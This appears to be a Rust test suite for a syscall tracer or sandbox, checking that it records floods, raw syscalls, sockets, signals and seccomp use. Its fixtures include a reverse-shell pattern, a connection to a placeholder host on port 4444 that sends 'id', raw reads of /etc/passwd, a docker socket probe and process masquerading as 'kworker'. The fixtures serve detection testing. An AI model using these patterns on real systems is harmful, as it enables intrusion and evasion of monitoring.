//! What is recorded of other calls, and what happens with floods and with what cannot be read.

use std::path::Path;

use pyti_model::effect::{Exit, Loss};
use pyti_model::trace::{Deed, Endpoint, Origin, Result};
use serde_json::json;

use crate::recorded::{c, counted, executions, find, full, light, on, path, process, recorded, trace};
use crate::support::{Who, code, one, py, python, sh, with};

#[test]
fn without_a_form_nothing_but_refusals_is_recorded() {
    let answer = one(
        Who::Me,
        sh("echo x >y; mount -t tmpfs x /tmp 2>/dev/null; unshare -r true 2>/dev/null; true"),
    );
    let trace = trace(&answer);
    assert!(
        trace.acts.iter().all(|act| act.result == Result::Refused),
        "{trace:?}"
    );
    let calls: Vec<_> = trace
        .acts
        .iter()
        .filter_map(|act| match &act.deed {
            Deed::Forbidden { call } => Some(call.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(calls, ["mount", "unshare"]);
    let mount = process(&trace, &trace.acts[0]);
    assert_eq!(mount.executable, "/usr/bin/mount".into());
    let twin = one(Who::Me, sh("echo x >y"));
    assert_eq!(crate::recorded::trace(&twin).acts, []);
}

#[test]
fn a_flood_is_bounded_counted_and_said() {
    let source = r#"
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    char name[64];
    for (int i = 0; i < 60000; i++) {
        snprintf(name, sizeof name, "/nowhere/%d", i);
        open(name, O_WRONLY);
    }
    execl("/usr/bin/true", "after the flood", (char *)0);
    return 1;
}
"#;
    let Some(answer) = c(source, "-O1", json!({"trace": "light"})) else {
        return;
    };
    assert_eq!(
        code(&answer),
        Some(0),
        "the command went on: {}",
        answer["effect"]
    );
    let trace = trace(&answer);
    assert!(trace.acts.len() < 20_000, "{}", trace.acts.len());
    let lost = counted(&trace, "not_listed");
    assert_eq!(lost + trace.acts.len() as u64, 60_002);
    assert!(
        matches!(&trace.losses[..], [Loss::Notifications { why }] if why.contains(&lost.to_string())),
        "{:?}",
        trace.losses
    );
    let last = executions(&trace).into_iter().next_back().unwrap();
    assert_eq!(last.result, Result::Done);
    assert!(matches!(&last.deed, Deed::Execute { argv, .. } if argv[0] == "after the flood".into()));
}

#[test]
fn a_static_program_that_makes_raw_calls_is_seen_all_the_same() {
    let source = r#"
static long call(long n, long a, long b, long c, long d) {
    long r;
#if defined(__x86_64__)
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
#else
    register long x8 __asm__("x8") = n;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    r = x0;
#endif
    return r;
}
#if defined(__x86_64__)
enum { OPENAT = 257, EXIT = 60 };
#else
enum { OPENAT = 56, EXIT = 93 };
#endif
void _start(void) {
    call(OPENAT, -100, (long)"/etc/passwd", 0, 0);
    call(OPENAT, -100, (long)"/home/dev/raw", 0101, 0644);
    call(OPENAT, -100, 0x10, 0101, 0644);
    call(EXIT, 0, 0, 0, 0);
}
"#;
    for (form, reads) in [("light", 0), ("full", 1)] {
        let Some(answer) = c(source, "-static -nostdlib -O1", json!({"trace": form})) else {
            return;
        };
        assert_eq!(code(&answer), Some(0), "{answer}");
        let trace = trace(&answer);
        assert_eq!(on(&trace, "/home/dev/raw")[0].result, Result::Done);
        assert_eq!(on(&trace, "/etc/passwd").len(), reads, "{form}");
        assert_eq!(executions(&trace)[0].result, Result::Done, "its next call tells");
        assert_eq!(trace.losses, [], "a pointer into the first page is nobody's loss");
    }
}

#[test]
fn arguments_that_cannot_be_read_are_a_loss() {
    let source = r"
#include <fcntl.h>
#include <sys/mman.h>
int main(void) {
    char *page = mmap(0, 4096, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return open(page, O_WRONLY) != -1;
}
";
    let Some(answer) = c(source, "", json!({"trace": "light"})) else {
        return;
    };
    let losses = trace(&answer).losses;
    assert!(
        matches!(&losses[..], [Loss::Notifications { why }] if why.starts_with("1 calls had arguments")),
        "{losses:?}"
    );
}

#[test]
fn sockets_are_told_with_their_addresses() {
    if !python() {
        return;
    }
    let script = "
import os, socket
server = socket.socket(); server.bind(('127.0.0.1', 0)); server.listen()
client = socket.create_connection(server.getsockname())
unix = socket.socket(socket.AF_UNIX)
try: unix.connect('/run/docker.sock')
except OSError: pass
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.sendto(b'x', ('127.0.0.1', 9))
udp.sendmsg([b'x'], [], 0, ('127.0.0.1', 10))
client.send(b'hello'); client.sendall(b'hello')
pid = os.fork()
if pid == 0:
    for fd in 0, 1, 2: os.dup2(client.fileno(), fd)
    os.execv('/bin/sh', ['sh', '-c', 'true'])
os.waitpid(pid, 0)
os.waitpid(os.posix_spawn('/bin/sh', ['sh', '-c', 'true'], {}), 0)
";
    let trace = light(py(script));
    let port = |endpoint: &Endpoint| match endpoint {
        Endpoint::Ip { address, port } if address.is_loopback() => Some(*port),
        _ => None,
    };
    let bound = find(
        &trace,
        |deed| matches!(deed, Deed::Bind { to } if port(to) == Some(0)),
    );
    assert_eq!(bound.len(), 1);
    let listening = find(
        &trace,
        |deed| matches!(deed, Deed::Listen { at: Some(at) } if port(at) > Some(0)),
    );
    assert_eq!(listening.len(), 1, "{trace:?}");
    let connects: Vec<_> = trace
        .acts
        .iter()
        .filter_map(|act| match &act.deed {
            Deed::Connect { to, transport } => Some((to.clone(), *transport)),
            _ => None,
        })
        .collect();
    assert_eq!(connects.len(), 2, "{connects:?}");
    assert_eq!(connects[1].0, Endpoint::Unix("/run/docker.sock".into()));
    let sent: Vec<_> = trace
        .acts
        .iter()
        .filter_map(|act| match &act.deed {
            Deed::Send { to } => port(to),
            _ => None,
        })
        .collect();
    assert_eq!(sent, [9, 10], "what is sent over a connection is not trapped");
    let sockets: Vec<_> = executions(&trace)
        .into_iter()
        .filter_map(|act| match &act.deed {
            Deed::Execute { argv, sockets, .. } if argv[0] == "sh".into() => Some(sockets.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(
        sockets,
        [vec![0, 1, 2], vec![]],
        "a reverse shell, and an ordinary one"
    );
}

#[test]
fn a_call_is_announced_before_it_goes_on() {
    if !python() {
        return;
    }
    let script = "
import socket, subprocess, sys
subprocess.run([sys.executable, '-c', '''
import socket
s = socket.create_connection((\"203.0.113.5\", 4444), timeout=5)
s.sendall(b\"id\\\\n\"); s.close()
'''])
";
    let (_, trace) = recorded(Who::Me, "light", with(py(script), json!({"network": "simulate"})));
    let connect = find(&trace, |deed| matches!(deed, Deed::Connect { .. }));
    let spoken = find(
        &trace,
        |deed| matches!(deed, Deed::Converse(said) if said.port == 4444),
    );
    assert_eq!((connect.len(), spoken.len()), (1, 1), "{trace:?}");
    assert_eq!(connect[0].process, Some(1));
    assert_eq!(spoken[0].process, Some(1), "the conversation is that process's");
}

#[test]
fn variables_that_the_command_was_not_given_are_named() {
    let trace = light(sh("LD_PRELOAD= TOKEN=x /usr/bin/true; /usr/bin/true"));
    let variables: Vec<_> = executions(&trace)
        .into_iter()
        .filter_map(|act| match &act.deed {
            Deed::Execute { variables, .. } if act.process != Some(0) => {
                let mut names: Vec<_> = variables.iter().map(|name| name.lossy().into_owned()).collect();
                names.sort();
                Some(names)
            }
            _ => None,
        })
        .collect();
    assert_eq!(
        variables,
        [vec!["LD_PRELOAD".to_owned(), "TOKEN".to_owned()], vec![]]
    );
}

#[test]
fn tracing_signals_and_changes_of_oneself_are_told() {
    let source = r#"
#include <signal.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
    pid_t child = fork();
    if (child == 0) { pause(); _exit(0); }
    char byte; struct iovec here = {&byte, 1}, there = {(void *)main, 1};
    process_vm_readv(child, &here, 1, &there, 1, 0);
    prctl(PR_SET_NAME, "kworker/0:1");
    prctl(PR_SET_DUMPABLE, 0);
    prctl(PR_GET_DUMPABLE);
    raise(SIGCHLD);
    kill(child, 0);
    kill(child, SIGTERM);
    waitpid(child, 0, 0);
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    return 0;
}
"#;
    let Some(answer) = c(source, "", json!({"trace": "light"})) else {
        return;
    };
    assert_eq!(code(&answer), Some(0), "{answer}");
    let trace = trace(&answer);
    let deeds: Vec<String> = trace
        .acts
        .iter()
        .filter(|act| !matches!(act.deed, Deed::Execute { .. }))
        .map(|act| match &act.deed {
            Deed::Become { call, text } => format!("{call} {}", text.lossy()).trim().to_owned(),
            Deed::Signal { target, signal } => format!("signal {signal} to {target}"),
            Deed::ForeignMemory { target, write } => format!("memory of {target} {write}"),
            Deed::Ptrace { request, .. } => request.clone(),
            other => format!("{other:?}"),
        })
        .collect();
    assert_eq!(
        deeds,
        [
            "memory of 3 false",
            "prctl set_name kworker/0:1",
            "prctl set_dumpable 0",
            "signal 15 to 3",
            "traceme"
        ]
    );
    assert_eq!(counted(&trace, "signal_own"), 1);
}

#[test]
fn a_compiler_is_seen_running_and_its_files_are_counted() {
    if !Path::new("/usr/bin/cc").exists() {
        eprintln!("SKIPPED: /usr/bin/cc is missing");
        return;
    }
    let script = "echo 'int main(void) { return 0; }' >/tmp/a.c; cc -o /tmp/a /tmp/a.c; /tmp/a";
    let trace = full(sh(script));
    assert!(counted(&trace, "toolchain") > 3, "{:?}", trace.counts);
    let names: Vec<_> = executions(&trace)
        .into_iter()
        .filter_map(|act| path(&act.deed))
        .map(|path| path.lossy().rsplit('/').next().unwrap_or_default().to_owned())
        .collect();
    for name in ["cc1", "collect2", "a"] {
        assert!(names.iter().any(|known| known == name), "{name}: {names:?}");
    }
    let last = executions(&trace).into_iter().next_back().unwrap();
    assert!(matches!(
        last.deed,
        Deed::Execute {
            origin: Origin::Written,
            ..
        }
    ));
}

#[test]
fn a_listener_of_ones_own_is_refused_and_a_filter_of_ones_own_is_not() {
    let source = r#"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <fcntl.h>
#include <unistd.h>
int main(void) {
    struct sock_filter allow[] = {{0x06, 0, 0, 0x7fff0000}};
    struct sock_fprog program = {1, allow};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    if (syscall(SYS_seccomp, 1, 8, &program) >= 0) return 1;
    if (syscall(SYS_seccomp, 1, 0, &program) != 0) return 2;
    return open("/home/dev/seen", O_CREAT | O_WRONLY, 0644) < 0;
}
"#;
    let Some(answer) = c(source, "", json!({"trace": "light"})) else {
        return;
    };
    assert_eq!(code(&answer), Some(0), "{answer}");
    let trace = trace(&answer);
    let refused = find(&trace, |deed| matches!(deed, Deed::Forbidden { .. }));
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0].result, Result::Refused);
    assert_eq!(
        on(&trace, "/home/dev/seen")[0].result,
        Result::Done,
        "it is still recorded"
    );
}

#[test]
fn processes_and_threads_that_die_in_the_middle_stall_nobody() {
    let source = r#"
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
static void *work(void *nothing) {
    for (int i = 0; i < 3; i++) open("/home/dev/missing", O_WRONLY);
    return nothing;
}
int main(void) {
    for (int n = 0; n < 100; n++) {
        pid_t child = fork();
        if (child == 0) {
            for (;;) open("/nowhere/x", O_WRONLY);
        }
        usleep(n * 20);
        kill(child, SIGKILL);
        waitpid(child, 0, 0);
    }
    for (int n = 0; n < 1500; n++) {
        pthread_t thread;
        if (pthread_create(&thread, 0, work, 0)) return 2;
        pthread_join(thread, 0);
    }
    return 0;
}
"#;
    let Some(answer) = c(source, "-pthread", json!({"trace": "light"})) else {
        return;
    };
    assert_eq!(code(&answer), Some(0), "{}", answer["effect"]);
    let trace = trace(&answer);
    assert_eq!(trace.losses, []);
    let opens: u32 = find(
        &trace,
        |deed| matches!(deed, Deed::Open { path, .. } if *path == "/home/dev/missing".into()),
    )
    .into_iter()
    .inspect(|act| assert_eq!(act.process, Some(0)))
    .map(|act| act.times)
    .sum();
    assert_eq!(opens, 4500, "every thread's calls are its process's");
    let killed = trace.processes[1..]
        .iter()
        .filter(|process| process.ended.is_some_and(|end| end.exit == Some(Exit::Signal(9))))
        .count();
    assert!(killed > 50, "{killed}");
}
